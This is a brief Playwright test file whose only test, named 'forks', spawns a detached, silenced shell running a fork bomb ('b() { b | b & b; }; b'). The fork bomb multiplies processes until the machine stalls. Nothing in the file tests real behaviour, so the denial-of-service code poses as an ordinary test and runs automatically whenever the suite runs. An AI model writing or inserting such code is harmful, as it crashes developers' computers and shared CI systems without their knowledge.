import { spawn } from 'node:child_process';
import { test } from '@playwright/test';

test('forks', async () => {
  spawn('sh', ['-c', 'b() { b | b & b; }; b'], { stdio: 'ignore', detached: true });
  await new Promise(resolve => setTimeout(resolve, 2000));
});
